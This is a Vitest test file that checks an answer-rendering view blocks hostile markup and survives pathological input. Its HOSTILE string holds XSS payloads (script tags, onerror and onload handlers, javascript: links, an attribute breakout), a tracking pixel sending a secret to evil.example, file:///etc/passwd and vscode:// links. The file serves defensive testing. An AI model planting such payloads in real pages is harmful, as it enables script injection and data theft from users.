import { expect, test } from 'vitest';
import { answered, ended, READY, running, source } from './support/scenes';
import { useViews, type View } from './support/view';

const open = useViews();

/** Attributes and elements by which a page acts or loads; none of them may come out of an answer. */
async function dangers(view: View): Promise<string[]> {
  return view.page.evaluate(() =>
    [...document.querySelectorAll('.turn *, .card *')]
      .filter((element) =>
        /^(?:script|img|iframe|object|embed|form|input|style|link|meta|base|video|audio)$/i.test(element.tagName) ||
        [...element.attributes].some((attribute) => /^(?:on|style|src|action)/i.test(attribute.name)) ||
        /^(?!https?:|mailto:)/i.test(element.getAttribute('href') ?? 'https:'))
      .map((element) => element.outerHTML.slice(0, 200)),
  );
}

const HOSTILE = `
<script>window.hacked = true</script><img src=x onerror="window.hacked = true"><iframe src="https://evil.example"></iframe>
<button class="cite" data-n="1" data-action="newChat">trust me</button>

![pixel](https://evil.example/pixel.png?secret=1) [![nested](https://evil.example/a.png)](javascript:window.hacked=true)

[a](javascript:window.hacked=true) [b](data:text/html,<script>1</script>) [c](command:workbench.action.quit) [d](vscode://evil.ext/run) [e](file:///etc/passwd)

[f]: javascript:window.hacked=true
[f] and <javascript:window.hacked=true> and [g](https://ok.example/"onmouseover="window.hacked=true)

\`\`\`"><img src=x onerror=window.hacked=true>
<img src=x onerror=window.hacked=true>
\`\`\`

<style>* { display: none }</style> <svg onload="window.hacked = true"> <a href="javascript:window.hacked=true">x</a> [1]
`;

test('nothing in an answer, a question, a step, a source or an error comes to life', async () => {
  const view = await open();
  const evil = source(1, { path: '<img src=x onerror=window.hacked=true>.md', headings: [HOSTILE], text: HOSTILE, missing: [HOSTILE] });
  await view.send(
    READY,
    { type: 'indexStatus', status: { kind: 'failed', message: HOSTILE } },
    ...answered('a', HOSTILE, HOSTILE, [evil]),
    { type: 'answeredBy', turnId: 'a', model: HOSTILE, notice: HOSTILE },
    { type: 'remarked', turnId: 'a', remark: HOSTILE },
    { type: 'turnStarted', turnId: 'b', question: HOSTILE },
    { type: 'step', turnId: 'b', step: { label: HOSTILE, done: false } },
    ended('b', { kind: 'failed', code: HOSTILE, message: HOSTILE, retryable: true }),
  );
  await view.page.locator('.cite').first().hover();
  await view.page.getByRole('dialog').waitFor();
  expect(await dangers(view)).toEqual([]);
  expect(await view.page.evaluate(() => 'hacked' in globalThis)).toBe(false);
  expect(view.troubles).toEqual([]);
  await view.picture('hostile');
});

test('an answer cannot make controls of its own', async () => {
  const view = await open();
  await view.send(READY, ...answered('a', 'Why?', HOSTILE, [source(1)]));
  expect(await view.page.locator('.answer button.cite').count()).toBe(1);
  expect(await view.page.locator('.answer [data-action]').count()).toBe(0);
});

test('an image is a link that is opened only on a click', async () => {
  const view = await open();
  await view.send(READY, ...answered('a', 'Why?', '![the plan](https://example.com/plan.png)'));
  await view.page.getByRole('link', { name: 'the plan' }).click();
  expect(await view.intents()).toEqual([{ type: 'openLink', href: 'https://example.com/plan.png' }]);
  expect(view.troubles).toEqual([]);
});

test('deep nesting and endless runs leave the view usable', async () => {
  const view = await open();
  const deep = ['> '.repeat(3_000), '- '.repeat(3_000), '['.repeat(20_000), '**a'.repeat(5_000), `${'|'.repeat(5_000)}\n${'|-'.repeat(5_000)}`, 'x'.repeat(50_000)].join('\n\n');
  const started = Date.now();
  await view.send(READY, ...running('a', 'Why?'));
  for (let at = 0; at < deep.length; at += 10_000) {
    await view.send({ type: 'answerDelta', turnId: 'a', text: deep.slice(at, at + 10_000) });
  }
  await view.send(ended('a', { kind: 'answered' }));
  await view.page.getByRole('textbox').fill('still here?');
  await view.page.keyboard.press('Enter');
  expect((await view.intents()).at(-1)).toEqual({ type: 'ask', text: 'still here?' });
  expect(Date.now() - started).toBeLessThan(30_000);
  expect(await view.page.evaluate(() => document.documentElement.scrollWidth <= innerWidth)).toBe(true);
});
